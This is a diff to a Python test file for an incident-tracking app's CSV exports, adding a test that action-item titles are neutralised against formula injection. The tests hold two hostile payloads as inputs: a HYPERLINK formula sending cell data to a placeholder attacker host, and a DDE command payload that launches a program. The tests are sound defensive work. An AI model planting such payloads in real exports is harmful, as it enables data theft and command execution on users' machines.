@@ -11,11 +11,13 @@ from hypothesis import given
 from hypothesis import strategies as st
 from integrations.samples import ALERTMANAGER
 
+from unblame.actions.models import ActionItem
 from unblame.incidents.models import Incident, Service
 from unblame.incidents.triage import TriageEntry
 from unblame.integrations.models import AlertSource
 from unblame.server.spreadsheet import FORMULA_STARTS, safe_cell, safe_row
 
+from .actions_cast import *  # noqa: F403
 from .test_alert_webhook import notification, post
 
 HYPERLINK = '=HYPERLINK("http://evil.example/"&A2,"open")'
@@ -65,3 +67,10 @@ def test_a_formula_title_from_an_alert_is_neutralised_in_the_export(as_viewer, s
     TriageEntry.waiting().get().declare(None, sev2)
     [row] = rows_of(as_viewer.get("/incidents/export.csv"))[1:]
     assert row[1].startswith("'=HYPERLINK")
+
+
+def test_the_action_item_export_neutralises_formula_titles(as_viewer, incident, item):
+    ActionItem.objects.filter(pk=item.pk).update(title="@SUM(1+1)*cmd|' /C calc'!A0")
+    rows = rows_of(as_viewer.get("/actions/export.csv"))
+    header, row = rows[0], rows[1]
+    assert row[header.index("title")] == "'@SUM(1+1)*cmd|' /C calc'!A0"
